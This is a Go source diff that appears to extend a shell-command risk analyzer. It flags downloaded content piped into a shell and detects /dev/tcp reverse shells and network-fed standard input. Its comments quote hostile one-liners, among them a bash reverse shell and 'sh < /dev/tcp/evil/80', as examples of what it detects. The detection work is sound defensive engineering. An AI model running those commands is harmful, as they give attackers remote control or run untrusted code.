@@ -75,6 +75,12 @@ func (s *state) walkStmt(st *syntax.Stmt) info {
 	var extra []finding
 	var stdin *stdinSrc
 	var inf info
+	if ce, ok := st.Cmd.(*syntax.CallExpr); ok && len(st.Redirs) > 0 && len(ce.Args) > 0 && s.c.download[baseName(ce.Args[0].Lit())] {
+		// What a downloader's redirections write is downloaded content
+		// (curl URL > >(bash)).
+		defer func(saved bool) { s.pipedDownload = saved }(s.pipedDownload)
+		s.pipedDownload = true
+	}
 	for _, r := range st.Redirs {
 		f, in, ri := s.redirect(r)
 		extra = append(extra, f...)
@@ -88,6 +94,12 @@ func (s *state) walkStmt(st *syntax.Stmt) info {
 			s.note(f.level, f.reason)
 		}
 		return inf
+	}
+	if netStdin(st.Redirs) {
+		// bash -i >& /dev/tcp/HOST/PORT 0>&1: standard input is the
+		// connection, and what it sends runs (a reverse shell).
+		stdin = &stdinSrc{file: true, download: true}
+		inf.download = true
 	}
 	inf = inf.or(s.walkCmd(st.Cmd, stdin, extra))
 	s.fetchedOutput(st)
@@ -160,6 +172,11 @@ func (s *state) redirect(r *syntax.Redirect) ([]finding, *stdinSrc, info) {
 			return nil, nil, inf
 		}
 		for _, x := range ws {
+			// bash reads /dev/tcp/HOST/PORT from the network: what the
+			// command reads is downloaded (sh < /dev/tcp/evil/80).
+			if p := path.Clean(x.s); strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") {
+				inf.download = true
+			}
 			if l, reason, ok := s.pathRule(x, true); ok && l > Safe {
 				fs = append(fs, finding{l, reason})
 			}
@@ -180,6 +197,42 @@ func (s *state) redirect(r *syntax.Redirect) ([]finding, *stdinSrc, info) {
 		fs = append(fs, finding{l, reason})
 	}
 	return fs, nil, inf
+}
+
+// netStdin reports whether redirs make standard input a network
+// connection: /dev/tcp/HOST/PORT (or udp) opened on a descriptor that
+// descriptor 0 is then made a copy of (>& /dev/tcp/x/1 0>&1), or opened
+// on 0 for reading and writing (<> /dev/tcp/x/1). It reads literal
+// words only.
+func netStdin(redirs []*syntax.Redirect) bool {
+	net := map[string]bool{}
+	for _, r := range redirs {
+		v, ok := litValue(r.Word)
+		if !ok {
+			continue
+		}
+		n := ""
+		if r.N != nil {
+			n = r.N.Value
+		}
+		if p := path.Clean(v); strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/") {
+			switch {
+			case r.Op == syntax.RdrAll || r.Op == syntax.AppAll || (r.Op == syntax.DplOut && n == ""):
+				net["1"], net["2"] = true, true
+			case n != "":
+				net[n] = true
+			case r.Op == syntax.RdrInOut || r.Op == syntax.RdrIn:
+				net["0"] = true
+			default:
+				net["1"] = true
+			}
+			continue
+		}
+		if (r.Op == syntax.DplOut || r.Op == syntax.DplIn) && n == "0" && net[v] {
+			net["0"] = true
+		}
+	}
+	return net["0"]
 }
 
 func isDigits(s string) bool {
@@ -267,6 +320,9 @@ func (s *state) writeTarget(w word) (l Level, reason string) {
 			s.fetched = map[string]bool{}
 		}
 		s.fetched[path.Clean(w.s)] = true
+	}
+	if w.execs && s.pipedDownload {
+		return s.c.rules.Defaults.DownloadExec, "writes downloaded content into " + w.s + ", whose command runs it"
 	}
 	l, reason = s.writeAt(w, false)
 	if w.unknown() || w.input || w.s == "" {
